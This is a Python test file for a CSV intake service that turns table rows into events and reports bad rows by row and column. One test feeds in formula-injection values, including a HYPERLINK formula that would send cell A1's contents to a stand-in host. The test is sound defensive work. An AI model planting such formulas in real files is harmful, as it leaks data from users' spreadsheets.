"""Tables through intake: each row an event, good ones kept, bad ones told of by row and column."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from hashlib import sha256
from typing import Any

import pytest
from tests.support.intake import said
from tests.support.stack import fresh_database

from contracts import schemas
from contracts.envelope import PREFIX
from contracts.streams import CONTEXT, PORTFOLIO, RECEIPTS
from contracts.tables import KINDS, cells, template
from intake.domain.rights import OFFICES
from intake.reader import Limits
from intake.store import entities, findings, submissions, uploads
from intake.store.submissions import Submission
from intake.usecases import files, tables
from plumbline.stack import Stack
from runtime.access import SYSTEM
from runtime.db import Database, new_id

ENTITY, SECRETARIAT = "XM-DEMO-1", "role:secretariat"
EXAMPLES = {name: json.loads(path.read_bytes()) for name, _, path in schemas.examples()}


@pytest.fixture
async def database(stack: Stack) -> AsyncIterator[Database]:
    opened = await Database.connect((await fresh_database(stack, "intake")).run_dsn, "intake")
    async with opened.transaction(SYSTEM) as tx:
        for n in (1, 2, 8):
            await entities.save(tx.conn, f"XM-DEMO-{n}", f"Demonstration {n}", [])
    yield opened
    await opened.close()


async def submit(database: Database, content: bytes, *, entity: str = ENTITY, dry_run: bool = False) -> dict[str, Any]:
    """Submit and process a table; its receipt, with all findings."""
    submission = Submission(
        new_id(), entity, "file", datetime.now(UTC), state="waiting", file="t.csv",
        sha256=sha256(content).hexdigest(), bytes=len(content), dry_run=dry_run,
    )  # fmt: skip
    async with database.transaction(SYSTEM) as tx:
        await submissions.add(tx.conn, [submission])
        await uploads.add(tx.conn, submission.id, 0, content)
    while await files.process_next(database, Limits()):
        pass
    async with database.transaction(SYSTEM) as tx:
        row = await submissions.one(tx.conn, submission.id)
        found = await findings.page(tx.conn, submission.id, 0, 1000, None)
    assert row is not None
    return {**dict(row), "findings": [dict(f) for f in found]}


def table(kind: str, *rows: dict[str, str], delimiter: str = ",", encoding: str = "utf-8") -> bytes:
    """The example's row, changed in some columns, once for each change."""
    columns = template(KINDS[kind], EXAMPLES[KINDS[kind].TYPE])
    usual = dict(zip([c.name for c in columns], cells(columns, EXAMPLES[KINDS[kind].TYPE]), strict=True))
    out = io.StringIO()
    names = list(dict.fromkeys([*usual, *(name for row in rows for name in row)]))
    writer = csv.DictWriter(out, names, delimiter=delimiter)
    writer.writeheader()
    writer.writerows([usual | row for row in rows or ({},)])
    return out.getvalue().encode(encoding)


def rules(result: dict[str, Any]) -> list[tuple[str, str | None]]:
    return [(f["rule"].removeprefix("plumbline:"), f["path"]) for f in result["findings"] if f["severity"] == "error"]


async def test_every_templates_row_is_one_event_and_the_same_file_changes_nothing(database: Database) -> None:
    for kind, model in KINDS.items():
        sender = SECRETARIAT if model.TYPE in OFFICES else ENTITY
        first = await submit(database, table(kind), entity=sender)
        assert (first["outcome"], first["accepted"], first["activities"]) == ("accepted", 1, 1), (
            kind,
            first["findings"],
        )
        found = await said(database)
        (fact,) = found[CONTEXT.topic if model.TYPE in OFFICES else PORTFOLIO.topic]
        assert fact["type"] == PREFIX + model.TYPE
        assert fact["data"]["origin"]["line"] == 2
        assert fact["data"]["origin"]["file"] == "t.csv"
        assert fact["causationid"] == first["id"]
        (told,) = found[RECEIPTS.topic]
        assert told["data"]["outcome"] == "accepted"
        again = await submit(database, table(kind), entity=sender)
        assert (again["outcome"], again["unchanged"]) == ("unchanged", 1)
        assert "plumbline:SAME_FILE" in {f["rule"] for f in again["findings"]}
        assert set(await said(database)) == {RECEIPTS.topic}


async def test_good_rows_are_kept_and_bad_ones_told_of_by_row_and_column(database: Database) -> None:
    content = table(
        "evaluations",
        {"evaluation_id": "E1"},
        {"evaluation_id": "E2", "scale": "10", "completed_on": "9999-12-31", "ratings.impact": "high"},
        {"evaluation_id": "E3", "ratings.relevance": "5", "scale": "4"},
        {"evaluation_id": "E4", "project_id": "XM-DEMO-2-LAW-01"},
        {"evaluation_id": "E5", "title.fr": "Évaluation\nfinale"},
        {"evaluation_id": ""},
    )
    result = await submit(database, content)
    assert (result["outcome"], result["activities"], result["accepted"], result["quarantined"]) == (
        "partly-quarantined", 6, 2, 4,
    )  # fmt: skip
    assert rules(result) == [
        ("SCHEMA_LITERAL_ERROR", "row 3, column scale"),
        ("SCHEMA_INT_PARSING", "row 3, column ratings.impact"),
        ("SCHEMA_LESS_THAN_EQUAL", "row 3, column completed_on"),
        ("RATING_SCALE", "row 4, column ratings.relevance"),
        ("PROJECT_UNKNOWN", "row 5, column project_id"),
        ("SCHEMA_MISSING", "row 7, column evaluation_id"),
    ]
    assert [f["line"] for f in result["findings"]] == [3, 3, 3, 4, 5, 8]  # a cell of two lines comes before the last
    facts = (await said(database))[PORTFOLIO.topic]
    assert [f["data"]["evaluation_id"] for f in facts] == ["E1", "E5"]
    assert facts[1]["data"]["title"]["fr"] == "Évaluation\nfinale"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig"])
@pytest.mark.parametrize("delimiter", [",", ";"])
async def test_as_spreadsheets_write_it(database: Database, encoding: str, delimiter: str) -> None:
    content = table("risks", {"title.en": "Semicolons; commas, and é"}, delimiter=delimiter, encoding=encoding)
    result = await submit(database, content.replace(b"\r\n", b"\n") + f"{delimiter * 3}\r\n\r\n".encode())
    assert (result["outcome"], result["activities"]) == ("accepted", 1), result["findings"]
    (fact,) = (await said(database))[PORTFOLIO.topic]
    assert fact["data"]["title"] == {"en": "Semicolons; commas, and é"}


async def test_what_looks_like_a_formula_is_text(database: Database) -> None:
    words = '=HYPERLINK("https://demo.example/?x="&A1,"see")'
    result = await submit(
        database, table("effort", {"person_days": "=1+1"}, {"period.end": "+1"}, {"pillar": "@SUM(A1)"})
    )
    assert {path for _, path in rules(result)} == {
        "row 2, column person_days", "row 3, column period.end", "row 4, column pillar",
    }  # fmt: skip
    await submit(database, table("risks", {"title.en": words}))
    (fact,) = (await said(database))[PORTFOLIO.topic]
    assert fact["data"]["title"]["en"] == words


async def test_a_dry_run_keeps_nothing(database: Database) -> None:
    result = await submit(database, table("risks", {}, {"likelihood": "6"}), dry_run=True)
    assert (result["accepted"], result["quarantined"]) == (1, 1)
    assert set(await said(database)) == {RECEIPTS.topic}
    assert (await submit(database, table("risks")))["outcome"] == "accepted"


async def test_an_entity_that_sends_what_an_office_says(database: Database) -> None:
    result = await submit(database, table("needs", {}, {"need_id": "N2"}))
    assert result["outcome"] == "quarantined"
    assert [rule for rule, _ in rules(result)] == ["NOT_YOURS_TO_SAY"] * 2


async def test_a_worker_that_dies_is_followed_by_one_that_goes_on(
    database: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tables, "_CHUNK", 2)
    keep, calls = tables._keep, 0

    class Died(BaseException):
        """Nothing may catch it, as nothing catches a kill."""

    async def keep_then_die(*arguments: Any) -> None:
        nonlocal calls
        calls += 1
        if calls == 2:
            raise Died
        await keep(*arguments)

    content = table("risks", *({"risk_id": f"R{n}"} for n in range(5)))
    with monkeypatch.context() as patch:
        patch.setattr(tables, "_keep", keep_then_die)
        with pytest.raises(Died):
            await submit(database, content)
    while await files.process_next(database, Limits()):
        pass
    found = await said(database)
    assert [f["data"]["risk_id"] for f in found[PORTFOLIO.topic]] == [f"R{n}" for n in range(5)]
    (told,) = found[RECEIPTS.topic]
    assert (told["data"]["accepted"], told["data"]["activities"]) == (5, 5)


HEAD = ",".join(c.name for c in template(KINDS["risks"])).encode()
BAD: dict[str, tuple[bytes, list[str]]] = {
    "nothing": (b"", ["TABLE_UNKNOWN"]),
    "an IATI file": (b"<iati-activities/>", ["TABLE_UNKNOWN"]),
    "columns that are misspelt, missing and twice": (
        HEAD.replace(b"likelihood", b"likelyhood", 1) + b",owner\n",
        ["COLUMN_UNKNOWN", "COLUMN_MISSING", "COLUMN_TWICE"],
    ),
    "UTF-16": (HEAD.decode().encode("utf-16"), ["NOT_UTF8"]),
    "not UTF-8": (HEAD + b"\n" + b"\xff" * 20, ["NOT_UTF8"]),
    "a quotation mark that never ends": (HEAD + b'\n"a,b,c', ["NOT_CSV"]),
    "a quotation mark amid a text": (HEAD + b'\n"a"b,c', ["NOT_CSV"]),
    "a cell of a megabyte": (HEAD + b"\n" + b"x" * 1_100_000, ["NOT_CSV"]),
    "a NUL": (HEAD + b"\nXM-DEMO-1-A\0B,R,x,1,1,1,1,,,,", ["CHARACTER"]),
    "a cell too many": (HEAD + b"\nXM-DEMO-1-A,R,x,1,1,1,1,NONE,,,text, and more", ["ROW_LENGTH"]),
}  # fmt: skip


@pytest.mark.parametrize("case", BAD)
async def test_what_is_no_table_gets_a_receipt(database: Database, case: str) -> None:
    content, wanted = BAD[case]
    result = await submit(database, content)
    assert result["outcome"] == "quarantined"
    assert [rule for rule, _ in rules(result)] == wanted
    assert all(f["remedy"] for f in result["findings"])
    assert set(await said(database)) == {RECEIPTS.topic}
